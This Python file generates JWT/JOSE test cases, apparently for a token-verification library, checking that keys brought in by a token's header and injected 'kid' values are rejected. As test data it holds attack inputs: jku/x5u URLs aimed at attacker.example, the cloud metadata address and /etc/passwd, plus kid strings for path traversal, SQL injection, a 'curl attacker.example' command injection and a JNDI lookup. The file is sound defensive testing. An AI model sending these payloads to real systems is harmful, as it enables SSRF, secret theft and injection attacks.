"""Keys that the token brings or points to, and attacks through kid: attacks-key.json."""

import base64
import json

from corpus import POLICY, Area, claims
from jose import MATERIAL, b64, jwk, oct_jwk, secret, thumbprint, token

INVALID = "ERR_SIGNATURE_INVALID"


def areas():
    area = Area(
        "attacks-key",
        "Keys that a token brings along, addresses it names, and what is put into kid.",
        "authwright: jku, x5u, jwk, x5c in a header are never trusted",
        {
            "p256": {"jwk": jwk("p256-a", kid="main")},
            "set": {"jwks": {"keys": [jwk("p256-a", kid="main")]}},
            "secret-set": {"jwks": {"keys": [oct_jwk(secret(32), kid="main")]}},
            "rsa": {"jwk": jwk("rsa-a")},
        },
    )
    attacker = jwk("p256-b")
    der = base64.b64encode(base64.b64decode("".join(MATERIAL["certificates"]["p256-a"].split("\n")[1:-2]))).decode()
    headers = {
        "jwk": {"jwk": attacker},
        "jwk-with-kid": {"jwk": attacker | {"kid": "main"}, "kid": "main"},
        "jwk-private": {"jwk": jwk("p256-b", True)},
        "jwk-is-a-set": {"jwk": {"keys": [attacker]}},
        "x5c": {"x5c": [der]},
        "x5c-garbage": {"x5c": ["AAAA"]},
        "jku": {"jku": "https://attacker.example/jwks.json"},
        "jku-file": {"jku": "file:///etc/passwd"},
        "jku-metadata-service": {"jku": "http://169.254.169.254/latest/meta-data/"},
        "jku-userinfo": {"jku": "https://id.example@attacker.example/jwks.json"},
        "x5u": {"x5u": "https://attacker.example/chain.pem"},
        "x5t": {"x5t": b64(bytes(20)), "x5t#S256": thumbprint(attacker)},
    }
    source = "a key that the header brings or points to is trusted (CVE-2018-0114, CVE-2026-27962)"
    for name, header in headers.items():
        area.add(
            f"key-injection-{name}",
            source=source,
            keys="p256",
            policy=POLICY,
            input=token("ES256", "p256-b", claims(), header),
            expect=INVALID,
        )
        if name in ("jwk", "jwk-with-kid", "jku"):
            area.add(
                f"key-injection-{name}-set",
                source=source,
                keys="set",
                policy=POLICY,
                input=token("ES256", "p256-b", claims(), header),
                expect=INVALID,
            )
        area.add(
            f"key-injection-{name}-good-signature",
            source="the same header from the rightful owner: it is not looked at",
            keys="p256",
            policy=POLICY,
            input=token("ES256", "p256-a", claims(), header),
            expect={"claims": claims(), "header": {"alg": "ES256"} | header},
        )
    area.add(
        "key-injection-jws",
        source=source,
        operation="jws_verify",
        keys="p256",
        input=token("ES256", "p256-b", claims(), {"jwk": attacker}),
        expect=INVALID,
    )
    area.add(
        "key-injection-symmetric",
        source=source,
        keys="p256",
        policy=POLICY,
        input=token("HS256", secret(32, "mine"), claims(), {"jwk": oct_jwk(secret(32, "mine"))}),
        expect="ERR_ALGORITHM_NOT_ALLOWED alg",
    )

    invalid_curves(area)
    kids = {
        "path": "../../../../../../dev/null",
        "absolute-path": "/dev/null",
        "proc": "/proc/sys/kernel/randomize_va_space",
        "sql": "x' UNION SELECT 'c2VjcmV0'; -- ",
        "command": "key; curl attacker.example",
        "url": "http://attacker.example/key",
        "nul": "main\0",
        "format": "%s%s%n",
        "template": "${jndi:ldap://attacker.example/a}",
        "long": "k" * 10_000,
        "prototype": "__proto__",
        "constructor": "constructor",
        "empty": "",
        "newline": "main\nX-Injected: 1",
    }
    for name, kid in kids.items():
        area.add(
            f"kid-injection-{name}",
            source="kid as a path, a query or a command: it is compared, and nothing else",
            keys="secret-set",
            policy=POLICY,
            input=token("HS256", b"", claims(), {"kid": kid}),
            expect="ERR_KEY_NOT_FOUND kid",
        )
    area.add(
        "kid-injection-single-key",
        source="one key ignores kid, and the signature decides",
        keys="p256",
        policy=POLICY,
        input=token("ES256", "p256-a", claims(), {"kid": "/dev/null"}),
        expect={"claims": claims()},
    )
    for name, text in [
        ("number", "1"),
        ("null", "null"),
        ("list", '["main"]'),
        ("object", '{"main":1}'),
        ("true", "true"),
    ]:
        for key in ("p256", "set"):
            area.add(
                f"kid-type-{name}-{'single' if key == 'p256' else 'set'}",
                source="RFC 7515 section 4.1.4: kid is a string",
                keys=key,
                policy=POLICY,
                input=token("ES256", "p256-a", claims(), f'{{"alg":"ES256","kid":{text}}}'),
                expect="ERR_TOKEN_MALFORMED kid",
            )
    area.add(
        "kid-twice",
        source="duplicate members",
        keys="set",
        policy=POLICY,
        expect="ERR_TOKEN_JSON",
        input=token("ES256", "p256-a", claims(), '{"alg":"ES256","kid":"x","kid":"main"}'),
    )
    area.add(
        "kid-kelvin-sign",
        source="Unicode folding: kid is compared exactly",
        keys={"jwks": {"keys": [jwk("p256-a", kid="k")]}},
        policy=POLICY,
        input=token("ES256", "p256-a", claims(), {"kid": "\u212a"}),
        expect="ERR_KEY_NOT_FOUND kid",
    )
    area.add(
        "kid-other-case",
        source="RFC 7515 section 4.1.4: kid is case-sensitive",
        keys="set",
        policy=POLICY,
        input=token("ES256", "p256-a", claims(), {"kid": "MAIN"}),
        expect="ERR_KEY_NOT_FOUND kid",
    )
    area.add(
        "kid-same-other-type",
        source="choosing a key of another type because its kid matches",
        keys="set",
        policy=POLICY,
        input=token("RS256", "rsa-a", claims(), {"kid": "main"}),
        expect="ERR_ALGORITHM_NOT_ALLOWED alg",
    )
    area.add(
        "key-injection-jku-in-set",
        source="SSRF through a set: addresses in it are members like others",
        operation="import",
        keys={
            "jwks": {"keys": [jwk("p256-a", kid="main", x5u="http://169.254.169.254/")], "jku": "file:///etc/passwd"}
        },
        expect={"set": {"length": 1}},
    )
    text = json.dumps({"keys": [jwk("p256-a", kid="main")]})
    area.add(
        "prototype-pollution-set",
        source="prototype pollution through a set",
        operation="import",
        keys={"jwks": text[:-1] + ', "__proto__": {"length": 7}}'},
        expect={"set": {"length": 1}},
    )
    return [area]


def invalid_curves(area):
    source = "invalid curve: a public key that is not on its curve gives its signatures away"
    good, text = jwk("p256-a", kid="main"), token("ES256", "p256-a", claims(), {"kid": "main"})
    off = good | {"y": good["x"]}
    area.add(
        "invalid-curve-single",
        source=source,
        keys={"jwk": off},
        policy=POLICY,
        input=text,
        expect="ERR_KEY_INCONSISTENT",
    )
    for name, others, expect in [
        ("set", [], "ERR_ALGORITHM_NOT_ALLOWED alg"),
        ("set-with-another", [jwk("p256-b", kid="other")], "ERR_KEY_NOT_FOUND kid"),
        ("set-with-the-good-one", [good], {"claims": claims()}),
    ]:
        keys = {"jwks": {"keys": [off, *others]}}
        area.add(f"invalid-curve-{name}", source=source, keys=keys, policy=POLICY, input=text, expect=expect)
    area.add(
        "invalid-curve-embedded",
        source=source + "; one in the header is not looked at",
        keys="p256",
        policy=POLICY,
        input=token("ES256", "p256-a", claims(), {"jwk": off}),
        expect={"claims": claims()},
    )
